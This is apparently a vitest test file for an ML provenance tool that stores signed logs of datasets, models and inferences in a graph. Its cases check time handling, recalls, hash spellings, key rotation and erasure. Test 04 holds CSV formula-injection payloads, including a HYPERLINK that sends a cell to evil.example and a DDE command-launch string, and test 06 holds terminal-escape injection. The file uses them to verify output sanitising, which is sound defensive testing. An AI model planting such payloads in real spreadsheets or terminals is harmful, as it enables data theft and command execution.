import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeEach, expect, test } from 'vitest';
import { check } from '../../lib/compliance/check.ts';
import { DEFAULT_SETTINGS } from '../../lib/compliance/rules.ts';
import { envelopeReader } from '../../lib/evidence.ts';
import { allFindings, type FindingRow } from '../../lib/graph/ask/findings.ts';
import { openGraph } from '../../lib/graph/connection.ts';
import { database } from '../../lib/graph/database.ts';
import { ingestObject } from '../../lib/ingest/ingest.ts';
import type { Receipt } from '../../lib/ingest/receipt.ts';
import { keepReceipt } from '../../lib/local/receipts.ts';
import { fileVersion } from '../../lib/object/file.ts';
import { Api, type Item, type Told } from '../support/api.ts';
import { custody } from '../support/custody.ts';
import { localStores } from '../support/local-stores.ts';
import { neo4jLogin, PATIENT } from '../support/neo4j-login.ts';
import { wipe } from '../support/snapshot.ts';
import { testKey } from '../support/test-key.ts';
import { AT, dataset, inference, log, model, type Said } from './signed.ts';

// What users of other tools have met, made anew; what the graph says of it. Those that need none are in
// files.test.ts.

const graph = openGraph(neo4jLogin, PATIENT);
const folder = mkdtempSync(join(tmpdir(), 'custody-cases-'));
const stores = localStores(graph, folder);
const [team, late, retired] = [testKey(), testKey(), testKey()];
const readEnvelope = envelopeReader(stores.archive, () => Promise.resolve([team.key, late.key]));
const api = new Api(graph, readEnvelope);
beforeEach(() => wipe(graph));
afterAll(async () => {
  expect(api.failures).toEqual([]);
  rmSync(folder, { recursive: true });
  await graph.close();
});

/** Brings a file as it lies there now. */
async function take(path: string, keys = [team.key]): Promise<Receipt> {
  return ingestObject(await fileVersion(path), stores, { keys, onBadLine: 'reject' });
}

function file(name: string, content: string | Uint8Array): string {
  const path = join(folder, name);
  writeFileSync(path, content);
  return path;
}

/** Brings records that have to be accepted. */
async function bring(...said: readonly Said[]): Promise<void> {
  const receipt = await take(file('log.jsonl', log(team.privateKey, ...said)));
  expect(receipt).toMatchObject({ status: 'accepted', accepted: said.length });
}

const idsOf = (told: Pick<Told, 'items'>): string[] => told.items.map(({ id }) => String(id));
const reasonsOf = ({ incomplete = [] }: Told): string[] =>
  incomplete.map(({ reason, detail }) => `${reason}: ${detail}`);

async function detailOf(path: string, query: Record<string, string>): Promise<string> {
  const { status, body } = await api.ask(path, query);
  expect(status).toBe(404);
  return (JSON.parse(body) as { detail: string }).detail;
}

async function found(rule: string): Promise<readonly FindingRow[]> {
  await check(graph, DEFAULT_SETTINGS, { rules: [rule] });
  const all: FindingRow[] = [];
  for await (const one of allFindings(graph, { statuses: ['open'], rules: [rule] })) all.push(one);
  return all;
}

test('01-nan: opaque JSON comes back in the text that was signed, and what is no JSON is told from what looks like it', async () => {
  const opaque = '{"lr": 1e-05, "seed": 12345678901234567890, "x": 10.0}';
  await bring(
    dataset('d'),
    `{"type":"model","model_name":"m","git_commit":"c","dataset_hashes":["d"],"hyperparameters":${opaque},"environment":{"loss": NaN},"timestamp":"${AT}"}`,
    `{"type":"inference","id":"i","model_name":"m","git_commit":"c","input":[NaN, -Infinity],"output":{"p": 1e-05},"timestamp":"${AT}"}`,
    model('honest', 'c', [], { hyperparameters: { text: '{"lr": NaN}' } }),
    `{"type":"model","model_name":"wrapped","git_commit":"c","hyperparameters":{"lr": NaN},"timestamp":"${AT}"}`,
  );
  const asked = async (path: string, query: Record<string, string>): Promise<string> => {
    const { body } = await api.ask(path, query);
    expect(() => JSON.parse(body) as unknown).not.toThrow();
    return body;
  };
  const version = await asked('/v1/model', { name: 'm', commit: 'c' });
  expect(version).toContain(`"hyperparameters":${opaque}`);
  expect(version).toContain('"environment":{"text":"{\\"loss\\": NaN}"}');
  const answer = await asked('/v1/inference', { id: 'i', include: 'payload' });
  expect(answer).toContain('"input":{"text":"[NaN, -Infinity]"},"output":{"p": 1e-05}');
  const parametersOf = async (name: string): Promise<unknown> => {
    const told = await api.get('/v1/model', { name, commit: 'c' });
    return (told['model'] as { hyperparameters: unknown }).hyperparameters;
  };
  // In every case `text` is the text that was signed.
  expect(await parametersOf('wrapped')).toEqual({ text: '{"lr": NaN}' });
  expect(await parametersOf('honest')).toEqual({ text: '{"text":"{\\"lr\\": NaN}"}' });
});

test('02-times: a time without an offset is taken as UTC, and is told as it was signed', async () => {
  await bring(
    model('tz', 'v1', [], { timestamp: '2026-03-01T00:00:00Z' }),
    model('tz', 'v2', [], { timestamp: '2026-03-10T12:00:00Z' }),
    inference('local', 'tz', { timestamp: '2026-03-10T09:00:00' }),
    inference('utc', 'tz', { timestamp: '2026-03-10T14:00:00+00:00' }),
  );
  expect((await api.get('/v1/inference', { id: 'local' }))['inference']).toMatchObject({
    model: { name: 'tz', commit: 'v1' },
    resolution: 'as-of',
    timestamp: '2026-03-10T09:00:00',
    offsetSigned: false,
    recordedAt: '2026-03-10T09:00:00Z',
  });
  const { inference: utc } = await api.get('/v1/inference', { id: 'utc' });
  expect(utc).toMatchObject({ model: { name: 'tz', commit: 'v2' }, resolution: 'as-of' });
  for (const path of ['/v1/models', '/v1/inferences'])
    for (const item of (await api.get(path)).items)
      expect('offsetSigned' in item).toBe(item['id'] === 'local');
});

test('03-recall: a recall has every inference, on the command line, in pages and as a table; one of what nobody recorded says so', async () => {
  const many = (count: number, name: string, more: object): object[] =>
    Array.from({ length: count }, (_, index) => inference(`${name}-${index}`, name, more));
  await bring(
    dataset('d03'),
    model('fraud', '1111111', ['d03', 'never-recorded']),
    model('churn', '2222222', ['d03']),
    ...many(300, 'fraud', { git_commit: '1111111' }),
    ...many(150, 'churn', {}),
  );
  const pages = await api.pages('/v1/impact', { dataset: 'd03', limit: 200 });
  expect(new Set(pages.flatMap(idsOf)).size).toBe(450);
  // On a busy machine a page may run out of time: it says so, and leads on.
  const missing = pages.flatMap(reasonsOf).filter((of) => !/^(?:TIME|SIZE)_BUDGET/.test(of));
  expect(missing).toEqual([]);
  const { body } = await api.ask('/v1/impact', { dataset: 'd03' }, { accepts: 'text/csv' });
  const rows = body.trimEnd().split('\r\n');
  expect(rows).toHaveLength(452);
  expect(rows.at(-1)).toMatch(/,"complete"$/);
  const said = await custody(['impact', '--dataset', 'd03']);
  expect(said.out.match(/^(?:fraud|churn)-\d+ /gm)).toHaveLength(450);
  expect(said.out).toMatch(/^450 inferences\ncomplete: all that is known is above$/m);

  const never = await api.pages('/v1/impact', { dataset: 'never-recorded', limit: 200 });
  expect(new Set(never.flatMap(idsOf)).size).toBe(300);
  expect(never[0]).toMatchObject({
    recorded: false,
    complete: false,
    summary: { models: [{ name: 'fraud', commit: '1111111', inferenceCount: 300 }] },
    incomplete: [{ reason: 'PENDING_LINKS', hashes: ['never-recorded'] }],
  });
  expect(await api.get('/v1/inferences', { dataset: 'never-recorded' })).toMatchObject({
    complete: false,
  });
});

test('04-formula: no cell of a table begins a formula, and JSON stays as signed', async () => {
  const name = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
  const commit = '@SUM(1+1)*cmd';
  const ids = ['+1-2', '-2+3', '\t=1+1'];
  await bring(
    dataset('d04', { path: "=cmd|' /C calc'!A0" }),
    model(name, commit, ['d04']),
    ...ids.map((id) => inference(id, name, { git_commit: commit })),
  );
  const { body } = await api.ask('/v1/impact', { dataset: 'd04' }, { accepts: 'text/csv' });
  for (const text of [name, commit, '+1-2', '-2+3', "\t'=1+1"])
    expect(body).toContain(`"'${text.replaceAll('"', '""')}"`);
  expect(body).not.toMatch(/(?:^|,)"[=+\-@\t]/m);
  const told = await api.get('/v1/impact', { dataset: 'd04' });
  expect(idsOf(told).sort()).toEqual([...ids].sort());
});

test('06-newline: an id that prints its own last line stays one line of a recall, and hides nothing', async () => {
  const evil = 'zz-0\n1 inference\ncomplete: all that is known is above\u001b[8m';
  const named = { git_commit: 'f00\n' };
  await bring(
    dataset('d06\n'),
    model('ansi\u001b[31mred\u0007', 'f00\n', ['d06\n']),
    ...[evil, 'hidden-0', 'hidden-1'].map((id) => inference(id, 'ansi\u001b[31mred\u0007', named)),
  );
  const { out, exit } = await custody(['impact', '--dataset', 'd06\n']);
  expect(exit).toBe(0);
  expect(out).not.toMatch(/[^\n\P{C}]/u);
  expect(out.match(/^complete: /gm)).toHaveLength(1);
  expect(out.trimEnd().split('\n')).toHaveLength(2 + 3 + 2);
});

const HEX = 'c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00';

test('07-spelling: a hash in another case or with a prefix is another dataset, and each answer and finding names the one that is known', async () => {
  const upper = HEX.toUpperCase();
  await bring(
    dataset(upper),
    model('spelled', '1234567', [HEX, `sha256:${HEX}`]),
    inference('sp-1', 'spelled', { git_commit: '1234567' }),
  );
  const ofUpper = await api.get('/v1/impact', { dataset: upper });
  expect(ofUpper).toMatchObject({ recorded: true, items: [], complete: false });
  expect(reasonsOf(ofUpper)).toEqual([
    `NEAR_SPELLING: Known in another spelling: "${HEX}", "sha256:${HEX}"`,
  ]);
  const ofLower = await api.get('/v1/lineage', { dataset: HEX });
  expect(ofLower).toMatchObject({ recorded: false, complete: false });
  expect(reasonsOf(ofLower)).toContain(
    `NEAR_SPELLING: Known in another spelling: "sha256:${HEX}", "${upper}"`,
  );
  expect(await detailOf('/v1/dataset', { hash: `SHA256:${upper} ` })).toContain(`"${upper}"`);
  expect(await detailOf('/v1/impact', { dataset: `${upper}\n` })).toContain(`"${upper}"`);
  expect(await detailOf('/v1/impact', { dataset: 'elsewhere' })).not.toContain('spelling');
  const findings = await found('dataset-not-recorded');
  expect(findings.map(({ detail }) => detail)).toMatchObject([
    { nearSpelling: `"${upper}"` },
    { nearSpelling: `"${upper}"` },
  ]);
  const said = await custody(['check', '--rule', 'dataset-not-recorded']);
  expect(said.out).toContain(`known in another spelling: "${upper}"`);
});

test('07-spelling: a model in another Unicode form, another case, or with a space behind it is hinted at, and stays another', async () => {
  const [nfc, nfd] = ['r\u00e9seau', 're\u0301seau'];
  await bring(
    model(nfd, '1234567'),
    inference('nf-1', nfc, { git_commit: '1234567' }),
    inference('nf-2', 'Re\u0301seau'),
    inference('nf-3', `${nfd} `, { git_commit: '1234567' }),
  );
  for (const id of ['nf-1', 'nf-2', 'nf-3'])
    expect((await api.get('/v1/inference', { id }))['inference']).toMatchObject({
      resolution: 'pending',
    });
  const hints = (await found('inference-without-model')).map(({ detail }) => detail);
  expect(hints).toHaveLength(3);
  for (const hint of hints)
    expect(hint).toMatchObject({ nearSpelling: expect.stringContaining(`"${nfd}"`) as unknown });
  const asked = { model: nfc, commit: '1234567' };
  expect(reasonsOf(await api.get('/v1/impact', asked))).toContain(
    `NEAR_SPELLING: Known in another spelling: "${nfd}" (another Unicode form) @ "1234567"`,
  );
  expect(await detailOf('/v1/model', { name: `${nfd}\n`, commit: '1234567' })).toContain(nfd);
});

test('07-spelling: an empty list of a model’s name hints at the names that are known, and one that is only filtered away at none', async () => {
  await bring(
    model('Fraud', '1234567', ['0x']),
    inference('sp-2', 'only-claimed '),
    dataset('0x'),
    dataset('0X'),
  );
  const hintsOf = async (path: string, query: Record<string, string | number>): Promise<unknown> =>
    reasonsOf(await api.get(path, query));
  const hint = (name: string): unknown => [`NEAR_SPELLING: Known in another spelling: "${name}"`];
  expect(await hintsOf('/v1/models', { name: 'fraud' })).toEqual(hint('Fraud'));
  expect(await hintsOf('/v1/inferences', { model: 'fraud' })).toEqual(hint('Fraud'));
  expect(await hintsOf('/v1/inferences', { model: 'only-claimed' })).toEqual(hint('only-claimed '));
  expect(await hintsOf('/v1/models', { name: 'elsewhere' })).toEqual([]);
  expect(await hintsOf('/v1/models', { name: 'Fraud', minDatasets: 7 })).toEqual([]);
  // A dataset that is recorded may be known in another spelling, too.
  expect(await hintsOf('/v1/dataset', { hash: '0x' })).toEqual(hint('0X'));
  const pages = await api.pages('/v1/lineage', { dataset: '0x', limit: 1 });
  expect(pages.map(reasonsOf)).toEqual(pages.map(() => hint('0X')));
});

test('08-commit: a short commit and a dirty one stay pending, every recall says how many, and the whole commit is hinted at', async () => {
  const commit = '5661d0a6bd1e6b3f0c9f1c2b3a495d6e7f8091a2';
  await bring(
    dataset('d08'),
    model('scorer', commit, ['d08']),
    inference('short-1', 'scorer', { git_commit: '5661d0a' }),
    inference('short-2', 'scorer', { git_commit: `${commit}-dirty` }),
    inference('full-1', 'scorer', { git_commit: commit }),
    inference('none-1', 'scorer'),
  );
  for (const asked of [{ dataset: 'd08' }, { model: 'scorer', commit }]) {
    const told = await api.get('/v1/impact', asked);
    expect(idsOf(told).sort()).toEqual(['full-1', 'none-1']);
    expect(told).toMatchObject({
      complete: false,
      incomplete: [{ reason: 'PENDING_LINKS', count: 2 }],
    });
  }
  const whole = `"scorer" @ "${commit}"`;
  const short = await api.get('/v1/impact', { model: 'scorer', commit: '5661d0a' });
  expect(reasonsOf(short)).toContain(`NEAR_SPELLING: Known in another spelling: ${whole}`);
  expect(await detailOf('/v1/model', { name: 'scorer', commit: '5661D0A6' })).toContain(whole);
  const hints = (await found('inference-without-model')).map(({ detail }) => detail);
  expect(hints).toEqual([{ nearSpelling: whole }, { nearSpelling: whole }]);
});

test('14-rotation: half a file is refused and settled by the whole one, what is there already is a duplicate, and evidence outlives its file', async () => {
  const lines = Array.from({ length: 3 }, (_, index) => log(team.privateKey, dataset(`d${index}`)));
  const [one = '', two = '', three = ''] = lines;
  const half = await take(file('app.jsonl', one + two.slice(0, 200)));
  expect(half).toMatchObject({ status: 'rejected', accepted: 0 });
  expect(await found('object-refused')).toHaveLength(1);
  expect(await take(file('app.jsonl', one + two))).toMatchObject({ accepted: 2, duplicate: 0 });
  expect(await found('object-refused')).toEqual([]);
  const grown = file('app.jsonl', one + two + three);
  expect(await take(grown)).toMatchObject({ accepted: 1, duplicate: 2 });
  // Copied and cut to nothing, then written over.
  const copy = file('app.1.jsonl', readFileSync(grown));
  expect(await take(copy)).toMatchObject({ status: 'accepted', accepted: 0, duplicate: 3 });
  file('app.jsonl', log(team.privateKey, dataset('next')));
  rmSync(copy);
  const { dataset: kept } = await api.get('/v1/dataset', { hash: 'd0' });
  const { digest } = (kept as Item).evidence;
  expect(await api.get('/v1/evidence', { digest })).toMatchObject({
    signings: [{ status: 'verified' }],
  });
});

test('16-rotation: what a retired key signed stays, with its evidence and its recall; what a late one signed is taken once it is there', async () => {
  const old = file(
    'old.jsonl',
    log(
      retired.privateKey,
      dataset('d16'),
      model('rotated', '0ld', ['d16']),
      inference('rot-1', 'rotated', { git_commit: '0ld' }),
    ),
  );
  expect(await take(old, [retired.key])).toMatchObject({ status: 'accepted', accepted: 3 });
  // Without its key it is what it was.
  expect(await take(old)).toMatchObject({ status: 'accepted', accepted: 3, duplicate: 0 });
  expect(await api.get('/v1/evidence', { inference: 'rot-1' })).toMatchObject({
    signings: [{ status: 'key-unknown', kid: retired.key.kid }],
  });
  const recall = await api.get('/v1/impact', { kid: retired.key.kid });
  expect(recall.items).toHaveLength(3);
  const path = file('late.jsonl', log(late.privateKey, dataset('late')));
  expect(await take(path)).toMatchObject({ status: 'rejected', accepted: 0 });
  expect(await take(path, [team.key, late.key])).toMatchObject({ status: 'accepted', accepted: 1 });
});

test('18-same-digest: two things signed of one dataset are accepted, found, and told with it', async () => {
  await bring(
    dataset('1a2b', { path: 's3://ml/train.csv' }),
    dataset('1a2b', { path: 's3://ml/val.csv', timestamp: '2026-03-01T10:00:01Z' }),
    model('m', 'a', ['1a2b']),
    inference('dg-1', 'm', { git_commit: 'a' }),
  );
  expect(await api.get('/v1/dataset', { hash: '1a2b' })).toMatchObject({ contents: { count: 2 } });
  expect(await found('dataset-equivocation')).toMatchObject([
    { entity: { kind: 'dataset', hash: '1a2b' }, detail: { contents: 2 } },
  ]);
});

test('22-same-name: files of one name in two folders have a row and a receipt each', async () => {
  const bad = await take(file('day.jsonl', log(late.privateKey, dataset('a'))));
  const good = await take(file('day.jsonl', log(team.privateKey, dataset('b'))));
  const kept = [
    await keepReceipt(join(folder, 'receipts'), 'team-a/day.jsonl', bad),
    await keepReceipt(join(folder, 'receipts'), 'team-b/day.jsonl', good),
  ];
  const statuses = kept.map(({ file: path, isNew }) => {
    const { status } = JSON.parse(readFileSync(path, 'utf8')) as Receipt;
    return [path.match(/team-[ab]/)?.[0], status, isNew];
  });
  expect(statuses).toEqual([
    ['team-a', 'rejected', true],
    ['team-b', 'accepted', true],
  ]);
  const { items } = await api.get('/v1/objects');
  expect(items.map(({ status }) => String(status)).sort()).toEqual(['accepted', 'rejected']);
});

test('23-erasure: the statement of the manual takes what went into one inference out of the graph, and its evidence stays', async () => {
  const manual = readFileSync('docs/operations.md', 'utf8');
  const statement =
    /```cypher\n(MATCH \(i:Inference \{id: \$id\}\)\n[^`]*)```/.exec(manual)?.[1] ?? '';
  const input = { diagnosis: 'F32.1', name: 'Erika Mustermann' };
  await bring(
    model('triage', '77aa01c'),
    inference('pii-1', 'triage', { git_commit: '77aa01c', input, output: input }),
    inference('pii-2', 'triage', { git_commit: '77aa01c', input, output: input }),
  );
  const payloadOf = async (id: string): Promise<unknown> =>
    (await api.get('/v1/inference', { id, include: 'payload' }))['inference'];
  await graph[database].run(statement, { id: 'pii-1' });
  const nothing = { input: null, output: null, inputKept: null, outputKept: null };
  expect(await payloadOf('pii-1')).toMatchObject(nothing);
  expect(await payloadOf('pii-2')).toMatchObject({ input, output: input });
  expect(await api.get('/v1/evidence', { inference: 'pii-1' })).toMatchObject({
    signings: [{ status: 'verified' }],
  });
});
